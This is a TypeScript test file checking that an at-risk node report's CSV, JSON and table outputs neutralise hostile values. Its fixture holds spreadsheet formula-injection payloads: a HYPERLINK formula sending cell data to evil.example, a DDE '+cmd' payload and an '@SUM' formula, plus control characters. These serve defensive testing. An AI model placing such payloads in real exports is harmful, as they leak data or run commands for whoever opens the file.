import { describe, expect, it } from 'vitest';
import { toAtRiskEntry } from '../../../src/core/at-risk/at-risk-entry.ts';
import {
  AT_RISK_CSV_HEADER,
  atRiskToCsv,
  atRiskToJson,
  atRiskToTable,
  windowHeadline,
} from '../../../src/core/at-risk/at-risk-formats.ts';
import type { AtRiskResult, WindowReport } from '../../../src/core/at-risk/query-at-risk.ts';
import { makeState } from '../campaign/campaign-fixtures.ts';

const hostile = makeState({
  node: 'i-0123456789abcdef0',
  hostname: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  findings: [['RUNC-CVE-2024-21626', 'high']],
  tags: { cluster: '+cmd|" /C calc"!A0', Name: '@SUM(1+1)\r\n-2', team: 'a,"b"' },
});
const result = (window?: WindowReport): AtRiskResult => {
  const entries = [toAtRiskEntry(hostile)];
  return { entries, states: [hostile], newerRunIds: [], ...(window === undefined ? {} : { window }) };
};
const window: WindowReport = {
  windowId: 'mw-0123456789abcdef0',
  name: 'prod-us-1',
  nextExecutionTime: '2025-01-08T03:00-05:00',
  nextExecutionUtc: '2025-01-08T08:00:00.000Z',
  targets: ['tag:cluster=prod-us-1'],
  unresolvedTargets: [],
  complete: true,
  tagLookups: 0,
  nodes: 1,
};

describe('at-risk formats', () => {
  it('keeps the JSON contract: a plain list without a window, { window, nodes } with one', () => {
    const plain = atRiskToJson(result()) as Record<string, unknown>[];
    expect(Array.isArray(plain)).toBe(true);
    expect(plain[0]).toMatchObject({
      node: 'i-0123456789abcdef0',
      status: 'AT_RISK',
      severity: 'high',
      hangInProgress: false,
      findings: ['RUNC-CVE-2024-21626'],
      pending: [],
      lastSeen: '2026-11-30T08:00:00.000Z',
      runId: 'run-1',
      os: 'CentOS Linux 7 (Core)',
      systemd: '219-62.el7_6.9',
    });
    expect(Object.keys(plain[0] as object)).toEqual(
      expect.arrayContaining(['node', 'status', 'findings', 'tags', 'lastSeen']),
    );
    const wrapped = atRiskToJson(result(window)) as { window: WindowReport; nodes: unknown[] };
    expect(wrapped.window.windowId).toBe('mw-0123456789abcdef0');
    expect(wrapped.nodes).toHaveLength(1);
  });

  it('defuses formulas and quotes hostile values in CSV', () => {
    const csv = atRiskToCsv(result().entries);
    const [header, row] = csv.split('\r\n');
    expect(header).toBe(AT_RISK_CSV_HEADER.join(','));
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    // The tags cell starts with a key, but each cell is checked, and quotes and newlines are quoted.
    expect(csv).toContain('"Name=@SUM(1+1)\r\n-2; cluster=+cmd|"" /C calc""!A0; team=a,""b"""');
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(3);
  });

  it('prints the window headline with the next run in its zone and in UTC', () => {
    expect(windowHeadline(window)).toBe(
      'Window prod-us-1 (mw-0123456789abcdef0) next runs 2025-01-08T03:00-05:00 (2025-01-08T08:00Z): 1 node at risk',
    );
    expect(atRiskToTable(result(window)).split('\n')[0]).toBe(windowHeadline(window));
    expect(windowHeadline({ ...window, nextExecutionTime: '2025-01-07T02:00Z', nodes: 37 })).toBe(
      'Window prod-us-1 (mw-0123456789abcdef0) next runs 2025-01-07T02:00Z: 37 nodes at risk',
    );
  });

  it('replaces control characters in the table so a hostname cannot move the cursor', () => {
    const table = atRiskToTable(result());
    expect(table).not.toMatch(/[\r\u001b]/);
    expect(table.split('\n')).toHaveLength(3);
  });
});
